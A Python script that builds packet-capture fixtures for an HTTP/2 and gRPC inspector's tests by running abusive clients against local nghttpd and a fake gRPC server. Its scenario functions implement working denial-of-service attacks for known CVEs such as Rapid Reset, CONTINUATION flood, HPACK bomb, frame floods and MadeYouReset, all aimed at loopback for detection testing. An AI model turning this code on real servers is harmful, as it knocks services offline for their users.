#!/usr/bin/env python3
"""Make the captures in captures/abuse/: traffic that breaks a rule, against real servers on loopback.

Run as root (tcpdump on lo): `python captures/abuse/make_abuse.py [--only NAME]`.
Each capture is a small abusive client of our own (raw socket, hyperframe, hpack)
against a real nghttpd, or a real peer (curl) against a small fake gRPC server
built on h2 that leaves out grpc-status. Everything listens on 127.0.0.1 only.
`manifest.json` beside them says what each shows and which rule it breaks
(tests/test_findings_abuse.py reads the captures and the manifest).

Needs: tcpdump, nghttpd, curl, and the Python packages hyperframe, hpack and h2.
"""

from __future__ import annotations

import argparse
import json
import socket
import subprocess
import sys
import tempfile
import threading
import time
from collections.abc import Callable
from pathlib import Path

import hpack
from hyperframe.frame import (
    ContinuationFrame,
    DataFrame,
    HeadersFrame,
    PingFrame,
    PriorityFrame,
    PushPromiseFrame,
    RstStreamFrame,
    SettingsFrame,
    WindowUpdateFrame,
)

HERE = Path(__file__).resolve().parent
sys.path.insert(0, str(HERE.parent))
sys.path.insert(0, str(HERE.parent.parent))  # inspector.demo: the demo service's messages
from make_captures import capture, free_port, nghttpd  # noqa: E402

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"


def request(port: int, path: str = "/index.html", method: str = "GET", extra: tuple = ()) -> list[tuple[str, str]]:
    return [(":method", method), (":scheme", "http"), (":authority", f"127.0.0.1:{port}"), (":path", path),
            *extra]


def raw_frame(type_code: int, flags: int, stream_id: int, payload: bytes = b"") -> bytes:
    """A frame as its 9-byte header says, whatever its type allows (wrong lengths, reserved bit)."""
    return len(payload).to_bytes(3, "big") + bytes([type_code, flags]) + stream_id.to_bytes(4, "big") + payload


class RawClient:
    """An HTTP/2 client that sends exactly the frames it is given.

    `preface=False`: it waits for the server's SETTINGS (nghttpd speaks first) and sends nothing;
    the scenario sends what it likes instead of the connection preface."""

    def __init__(self, port: int, settings: dict[int, int] | None = None, preface: bool = True) -> None:
        self.sock = socket.create_connection(("127.0.0.1", port))
        self.encoder = hpack.Encoder()
        self.received = bytearray()
        self.closed = False
        self.reader = threading.Thread(target=self._read, daemon=True)
        self.reader.start()
        if preface:
            self.send(PREFACE, SettingsFrame(0, settings=settings or {}))
        deadline = time.time() + 5
        while len(self.received) < 9 and time.time() < deadline:  # the server's SETTINGS: acknowledge it
            time.sleep(0.01)
        if preface:
            self.send(SettingsFrame(0, flags=["ACK"]))

    def _read(self) -> None:
        try:
            while chunk := self.sock.recv(65536):
                self.received += chunk
        except OSError:
            pass
        self.closed = True

    def send(self, *parts) -> None:
        self.sock.sendall(b"".join(p if isinstance(p, bytes) else p.serialize() for p in parts))

    def headers(self, sid: int, headers: list[tuple[str, str]], *, end_stream: bool = True,
                end_headers: bool = True) -> HeadersFrame:
        flags = (["END_HEADERS"] if end_headers else []) + (["END_STREAM"] if end_stream else [])
        return HeadersFrame(sid, self.encoder.encode(headers), flags=flags)

    def settle(self, quiet: float = 0.5, most: float = 5.0) -> None:
        """Wait until the server has said what it will (quiet for a while, or it closed)."""
        deadline = time.time() + most
        seen = -1
        while time.time() < deadline and not self.closed:
            if len(self.received) == seen:
                break
            seen = len(self.received)
            time.sleep(quiet)

    def close(self) -> None:
        self.settle()
        self.sock.close()
        self.reader.join(timeout=2)


# ---- the scenarios: each gets a connected client and the server's port ---------------------------------

def rapid_reset(port: int) -> None:
    """CVE-2023-44487: 1,100 streams opened and reset at once."""
    c = RawClient(port)
    frames = []
    for i in range(1100):
        sid = 1 + 2 * i
        frames += [c.headers(sid, request(port)), RstStreamFrame(sid, error_code=8)]
    c.send(*frames)
    c.close()


def continuation_flood(port: int) -> None:
    """CVE-2024-27316: a header block in 40 small CONTINUATION frames that never ends."""
    c = RawClient(port)
    block = c.encoder.encode(request(port) + [(f"x-pad-{i}", "v" * 20) for i in range(40)])
    step = max(1, len(block) // 41)
    pieces = [block[i:i + step] for i in range(0, len(block), step)]
    frames = [HeadersFrame(1, pieces[0], flags=["END_STREAM"])]
    frames += [ContinuationFrame(1, p) for p in pieces[1:]]  # no END_HEADERS, ever
    c.send(*frames)
    c.close()


def hpack_bomb(port: int) -> None:
    """CVE-2016-6581 family: one 4,000-byte entry in the dynamic table, referenced 20 times."""
    c = RawClient(port)
    name, value = b"x-bomb", b"a" * 4000
    literal = bytes([0x40]) + hpack_string(name) + hpack_string(value)  # incremental indexing: entry 62
    prefix = c.encoder.encode(request(port))  # the request's own fields first
    c.send(HeadersFrame(1, prefix + literal + bytes([0x80 | 62]) * 20, flags=["END_HEADERS", "END_STREAM"]))
    c.close()


def hpack_string(raw: bytes) -> bytes:
    assert len(raw) < 127 or len(raw) < 2**14
    if len(raw) < 127:
        return bytes([len(raw)]) + raw
    n = len(raw) - 127
    out = bytearray([127])
    while n >= 128:
        out.append(n % 128 | 0x80)
        n //= 128
    out.append(n)
    return bytes(out) + raw


def ping_flood(port: int) -> None:
    """CVE-2019-9512: 1,500 PINGs in one write."""
    c = RawClient(port)
    c.send(*[PingFrame(0, opaque_data=i.to_bytes(8, "big")) for i in range(1500)])
    c.close()


def settings_flood(port: int) -> None:
    """CVE-2019-9515: 1,500 SETTINGS in one write, each owed an ACK."""
    c = RawClient(port)
    c.send(*[SettingsFrame(0, settings={3: 100}) for _ in range(1500)])
    c.close()


def settings_many(port: int) -> None:
    """A SETTINGS frame with 40 parameters (nghttp2 accepts 32)."""
    c = RawClient(port)
    frame = SettingsFrame(0)
    body = b"".join((3).to_bytes(2, "big") + (100 + i).to_bytes(4, "big") for i in range(40))
    raw = frame.serialize()
    c.send(len(body).to_bytes(3, "big") + raw[3:9] + body, c.headers(1, request(port)))
    c.close()


def empty_data(port: int) -> None:
    """CVE-2019-9518: a POST whose body is 10 empty DATA frames, then END_STREAM."""
    c = RawClient(port)
    c.send(c.headers(1, request(port, method="POST"), end_stream=False), *[DataFrame(1, b"") for _ in range(10)],
           DataFrame(1, b"", flags=["END_STREAM"]))
    c.close()


def priority_flood(port: int) -> None:
    """CVE-2019-9513: one request, then 300 PRIORITY frames."""
    c = RawClient(port)
    c.send(c.headers(1, request(port)), *[PriorityFrame(3 + 2 * (i % 50), depends_on=1, stream_weight=i % 256)
                                          for i in range(300)])
    c.close()


def window_update_flood(port: int) -> None:
    """CVE-2019-9511: one request, then 100 connection WINDOW_UPDATEs of 1 byte."""
    c = RawClient(port)
    c.send(c.headers(1, request(port)), *[WindowUpdateFrame(0, window_increment=1) for _ in range(100)])
    c.close()


def zero_window(port: int) -> None:
    """CVE-2019-9517: a reader that keeps the server's windows at 16 bytes: stream 1 is let go
    after 2.5 s, stream 3 never."""
    c = RawClient(port, settings={4: 16})
    c.send(c.headers(1, request(port, "/big.bin")), c.headers(3, request(port, "/big.bin")))
    time.sleep(2.5)
    c.send(WindowUpdateFrame(1, window_increment=100_000), WindowUpdateFrame(0, window_increment=100_000))
    c.settle()
    c.sock.close()


def data_beyond_window(port: int) -> None:
    """A POST of 70,000 bytes sent without waiting for a WINDOW_UPDATE (the windows are 65,535)."""
    c = RawClient(port)
    c.send(c.headers(1, request(port, method="POST", extra=(("content-length", "70000"),)), end_stream=False),
           *[DataFrame(1, b"x" * 14_000) for _ in range(4)], DataFrame(1, b"x" * 14_000, flags=["END_STREAM"]))
    c.close()


def made_you_reset(port: int) -> None:
    """CVE-2025-8671: 1,080 requests in batches of 90, each followed by a WINDOW_UPDATE that overflows its window,
    which makes the server reset the stream itself."""
    c = RawClient(port)
    for batch in range(12):  # 90 at a time, under the server's 100 concurrent streams
        frames = []
        for i in range(90):
            sid = 1 + 2 * (batch * 90 + i)
            frames += [c.headers(sid, request(port)), WindowUpdateFrame(sid, window_increment=2**31 - 1)]
        c.send(*frames)
        time.sleep(0.05)
    c.close()


def no_te_trailers(port: int) -> None:
    """A gRPC request without te: trailers (nghttpd answers it as the web server it is)."""
    c = RawClient(port)
    c.send(c.headers(1, request(port, "/demo.Demo/Unary", "POST", (("content-type", "application/grpc"),)),
                     end_stream=False), DataFrame(1, b"\x00\x00\x00\x00\x00", flags=["END_STREAM"]))
    c.close()


def no_preface(port: int) -> None:
    """The server speaks first (its SETTINGS); the client answers with SETTINGS and a request,
    but never the 24-byte connection preface."""
    c = RawClient(port, preface=False)
    c.send(SettingsFrame(0), c.headers(1, request(port)))
    c.close()


# Each frame of a fixed length, sent one byte short or long, on a connection of its own
# (the server closes the connection at the first). (type, flags, stream, payload)
WRONG_LENGTHS = [
    (2, 0, 3, bytes(4)),  # PRIORITY of 4 bytes (5)
    (3, 0, 1, bytes(3)),  # RST_STREAM of 3 bytes (4), on the open stream 1
    (8, 0, 0, b"\x00\x00\x00\x01\x00"),  # WINDOW_UPDATE of 5 bytes (4)
    (6, 0, 0, bytes(7)),  # PING of 7 bytes (8)
]


def frame_length(port: int) -> None:
    """PRIORITY, RST_STREAM, WINDOW_UPDATE and PING of the wrong length, one connection each."""
    for type_code, flags, sid, payload in WRONG_LENGTHS:
        c = RawClient(port)
        c.send(c.headers(1, request(port, "/big.bin"), end_stream=True), raw_frame(type_code, flags, sid, payload))
        c.close()


def reserved_bit(port: int) -> None:
    """A request on stream 1 whose stream identifier has the reserved bit set (0x80000001)."""
    c = RawClient(port)
    block = c.encoder.encode(request(port))
    c.send(raw_frame(1, 0x5, 0x80000001, block))  # HEADERS, END_STREAM | END_HEADERS
    c.close()


def settings_length(port: int) -> None:
    """A SETTINGS of 7 bytes; on a second connection, a SETTINGS ACK that carries a setting."""
    c = RawClient(port)
    c.send(raw_frame(4, 0, 0, (3).to_bytes(2, "big") + (100).to_bytes(4, "big") + b"\x00"))
    c.close()
    c = RawClient(port, preface=False)
    c.send(PREFACE, SettingsFrame(0), raw_frame(4, 0x1, 0, (3).to_bytes(2, "big") + (100).to_bytes(4, "big")))
    c.close()


def hpack_error(port: int) -> None:
    """A request whose field block names index 0, which HPACK never defines (RFC 7541 §6.1)."""
    c = RawClient(port)
    c.send(HeadersFrame(1, c.encoder.encode(request(port)) + b"\x80", flags=["END_HEADERS", "END_STREAM"]))
    c.close()


def closed_stream(port: int) -> None:
    """A GET on stream 1; once its response is over (the stream closed), DATA on stream 1 again."""
    c = RawClient(port)
    c.send(c.headers(1, request(port)))
    c.settle()
    c.send(DataFrame(1, b"late", flags=["END_STREAM"]))
    c.close()


def client_push_promise(port: int) -> None:
    """A POST on stream 1, then a PUSH_PROMISE from the client on it: only a server may promise."""
    c = RawClient(port)
    c.send(c.headers(1, request(port, method="POST"), end_stream=False),
           PushPromiseFrame(1, promised_stream_id=2, data=c.encoder.encode(request(port)), flags=["END_HEADERS"]))
    c.close()


def open_at_end(port: int) -> Callable[[], None]:
    """curl uploading from a pipe that stays open: the capture stops while stream 1 is still open.
    Returns what ends curl, once the capture has stopped."""
    curl = subprocess.Popen(["curl", "-sS", "--http2-prior-knowledge", "-T", "-", "-o", "/dev/null",
                             f"http://127.0.0.1:{port}/upload"], stdin=subprocess.PIPE)
    assert curl.stdin is not None
    curl.stdin.write(b"the first part of a body that never ends\n")
    curl.stdin.flush()
    time.sleep(1.5)  # curl sends the request and that part (after at most 1 s of waiting for 100-continue)

    def end() -> None:
        curl.kill()
        curl.wait(timeout=10)
    return end


NGHTTPD: dict[str, Callable[[int], Callable[[], None] | None]] = {
    "rapid-reset": rapid_reset, "continuation-flood": continuation_flood, "hpack-bomb": hpack_bomb,
    "ping-flood": ping_flood, "settings-flood": settings_flood, "settings-many": settings_many,
    "empty-data": empty_data, "priority-flood": priority_flood, "window-update-flood": window_update_flood,
    "zero-window": zero_window, "data-beyond-window": data_beyond_window, "made-you-reset": made_you_reset,
    "no-te-trailers": no_te_trailers,
    "no-preface": no_preface, "frame-length": frame_length, "reserved-bit": reserved_bit,
    "settings-length": settings_length, "hpack-error": hpack_error, "closed-stream": closed_stream,
    "client-push-promise": client_push_promise, "open-at-end": open_at_end,
}


# ---- a fake gRPC server on h2: it answers as it is told, not as gRPC says -------------------------------

Answer = Callable[..., None]  # (h2 connection, stream id, request headers as a dict of str)


def fake_grpc_server(port: int, stop: threading.Event, answer: Answer) -> None:
    """An h2 server that hands every request, once its client ended the stream, to `answer`."""
    import h2.config
    import h2.connection
    import h2.events

    listener = socket.socket()
    listener.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
    listener.bind(("127.0.0.1", port))
    listener.listen()
    listener.settimeout(0.2)
    while not stop.is_set():
        try:
            sock, _ = listener.accept()
        except TimeoutError:
            continue
        conn = h2.connection.H2Connection(h2.config.H2Configuration(client_side=False, header_encoding="utf-8"))
        conn.initiate_connection()
        sock.sendall(conn.data_to_send())
        sock.settimeout(5)
        requests: dict[int, dict[str, str]] = {}
        try:
            while data := sock.recv(65536):
                for event in conn.receive_data(data):
                    if isinstance(event, h2.events.RequestReceived):
                        requests[event.stream_id] = dict(event.headers)
                    elif isinstance(event, h2.events.DataReceived):
                        conn.acknowledge_received_data(event.flow_controlled_length, event.stream_id)
                    elif isinstance(event, h2.events.StreamEnded):
                        answer(conn, event.stream_id, requests.pop(event.stream_id, {}))
                sock.sendall(conn.data_to_send())
        except OSError:
            pass
        sock.close()
    listener.close()


GRPC_RESPONSE = [(":status", "200"), ("content-type", "application/grpc")]


def without_trailers(conn, stream_id: int, headers: dict[str, str]) -> None:
    """:status 200, content-type application/grpc, one empty message, and END_STREAM on the DATA:
    no trailers, so no grpc-status."""
    conn.send_headers(stream_id, GRPC_RESPONSE)
    conn.send_data(stream_id, b"\x00\x00\x00\x00\x00", end_stream=True)


def as_many_replies_as_asked(conn, stream_id: int, headers: dict[str, str]) -> None:
    """The number of Reply messages the request's x-fake-replies header says (1 without it), then
    trailers with grpc-status 0, whatever the method's style allows."""
    from inspector.demo import demo_pb2 as pb

    conn.send_headers(stream_id, GRPC_RESPONSE)
    for i in range(int(headers.get("x-fake-replies", "1"))):
        body = pb.Reply(text=f"reply {i + 1}", index=i).SerializeToString()
        conn.send_data(stream_id, b"\x00" + len(body).to_bytes(4, "big") + body)
    conn.send_headers(stream_id, [("grpc-status", "0")], end_stream=True)


def fake_grpc(path: Path, answer: Answer, clients: Callable[[int], None]) -> None:
    """Capture `clients` calling a fake gRPC server that answers with `answer`."""
    port = free_port()
    stop = threading.Event()
    server = threading.Thread(target=fake_grpc_server, args=(port, stop, answer), daemon=True)
    server.start()
    time.sleep(0.3)
    try:
        with capture(path, port):
            clients(port)
    finally:
        stop.set()
        server.join(timeout=5)


def curl_unary(port: int, body: bytes, path: str = "/demo.Demo/Unary", extra: tuple[str, ...] = ()) -> None:
    """curl as a gRPC client: POST `body` (length-prefixed messages) with te: trailers."""
    subprocess.run(["curl", "-s", "--http2-prior-knowledge", "-o", "/dev/null", "-H", "te: trailers",
                    "-H", "content-type: application/grpc", *extra, "--data-binary", "@-",
                    f"http://127.0.0.1:{port}{path}"], input=body, check=True, timeout=20)


def missing_grpc_status(path: Path) -> None:
    fake_grpc(path, without_trailers, lambda port: curl_unary(port, b"\x00\x00\x00\x00\x00"))


def message_count_calls(port: int) -> None:
    """Unary calls of the demo service answered with two replies and with none (grpcio's client, one
    connection), then one sent two requests (curl, a second connection)."""
    import grpc

    from inspector.demo import demo_pb2 as pb
    from inspector.demo import demo_pb2_grpc as pb_grpc

    with grpc.insecure_channel(f"127.0.0.1:{port}", options=[("grpc.enable_http_proxy", 0)]) as channel:
        stub = pb_grpc.DemoStub(channel)
        for replies in ("2", "0"):
            try:
                stub.Unary(pb.Request(name=f"{replies} replies"), metadata=[("x-fake-replies", replies)], timeout=2)
            except grpc.RpcError as exc:  # grpcio says what it makes of it: that is the point
                print(f"grpcio, {replies} replies: {exc.code().name}: {exc.details()}")
    one = pb.Request(name="one of two").SerializeToString()
    message = b"\x00" + len(one).to_bytes(4, "big") + one
    curl_unary(port, message * 2, "/h2inspect.demo.Demo/Unary")


FAKE_GRPC: dict[str, Callable[[Path], None]] = {
    "missing-grpc-status": missing_grpc_status,
    "grpc-message-count": lambda path: fake_grpc(path, as_many_replies_as_asked, message_count_calls),
}


DESCRIPTIONS = {
    "rapid-reset": "1,100 streams opened and reset at once (CVE-2023-44487), against nghttpd",
    "continuation-flood": "a header block in 40 CONTINUATION frames that never ends (CVE-2024-27316), against nghttpd",
    "hpack-bomb": "a 4 KB dynamic-table entry referenced 20 times (CVE-2016-6581), against nghttpd",
    "ping-flood": "1,500 PINGs in one write (CVE-2019-9512), against nghttpd",
    "settings-flood": "1,500 SETTINGS in one write (CVE-2019-9515), against nghttpd",
    "settings-many": "one SETTINGS frame with 40 parameters, against nghttpd",
    "empty-data": "a POST body of 10 empty DATA frames (CVE-2019-9518), against nghttpd",
    "priority-flood": "one request and 300 PRIORITY frames (CVE-2019-9513), against nghttpd",
    "window-update-flood": "one request and 100 connection WINDOW_UPDATEs (CVE-2019-9511), against nghttpd",
    "zero-window": "windows of 16 bytes: stream 1 released after 2.5 s, stream 3 never (CVE-2019-9517), "
                   "against nghttpd",
    "data-beyond-window": "70,000 bytes of DATA into 65,535-byte windows, against nghttpd",
    "made-you-reset": "1,080 WINDOW_UPDATEs that overflow their stream's window, each reset by the server "
                      "(CVE-2025-8671), against nghttpd",
    "no-te-trailers": "a gRPC request without te: trailers, against nghttpd",
    "missing-grpc-status": "curl calling a fake gRPC server (h2) that answers without trailers",
    "grpc-message-count": "grpcio's client calling the demo's unary method on a fake gRPC server (h2) that answers "
                          "with two replies (grpcio waits for its 2 s deadline), then with none (grpc-status 0 both "
                          "times); then curl sending it two request messages (read it with --proto "
                          "inspector/demo/demo.proto)",
    "no-preface": "a client that answers nghttpd's SETTINGS with SETTINGS and a request, never the preface",
    "frame-length": "PRIORITY, RST_STREAM, WINDOW_UPDATE and PING one byte short or long, a connection each, "
                    "against nghttpd (it answers GOAWAY FRAME_SIZE_ERROR)",
    "reserved-bit": "a request on stream 0x80000001 (the reserved bit set), against nghttpd",
    "settings-length": "a SETTINGS of 7 bytes, and on a second connection a SETTINGS ACK with a payload, "
                       "against nghttpd",
    "hpack-error": "a field block that names HPACK index 0, against nghttpd (GOAWAY COMPRESSION_ERROR)",
    "closed-stream": "DATA on stream 1 after its response ended the stream, against nghttpd",
    "client-push-promise": "a PUSH_PROMISE sent by the client, against nghttpd",
    "open-at-end": "curl uploading from a pipe that stays open, against nghttpd: the capture ends with stream 1 "
                   "open",
}


def main() -> int:
    parser = argparse.ArgumentParser(description=__doc__)
    parser.add_argument("--only", action="append", help="remake only this capture (repeatable)")
    args = parser.parse_args()
    wanted = set(args.only or DESCRIPTIONS)
    with tempfile.TemporaryDirectory() as tmp:
        root = Path(tmp)
        (root / "index.html").write_text("<p>ok</p>\n")
        (root / "big.bin").write_bytes(b"b" * 200_000)
        for name, scenario in NGHTTPD.items():
            if name not in wanted:
                continue
            port = free_port()
            path = HERE / f"{name}.pcap"
            with nghttpd(root, port):
                with capture(path, port):
                    after = scenario(port)
                if after is not None:  # what must outlive the capture ends after it
                    after()
            print(f"{path.name}: {path.stat().st_size} bytes")
    for name, make in FAKE_GRPC.items():
        if name in wanted:
            path = HERE / f"{name}.pcap"
            make(path)
            print(f"{path.name}: {path.stat().st_size} bytes")
    (HERE / "manifest.json").write_text(json.dumps({"captures": DESCRIPTIONS}, indent=2) + "\n")
    return 0


if __name__ == "__main__":
    raise SystemExit(main())
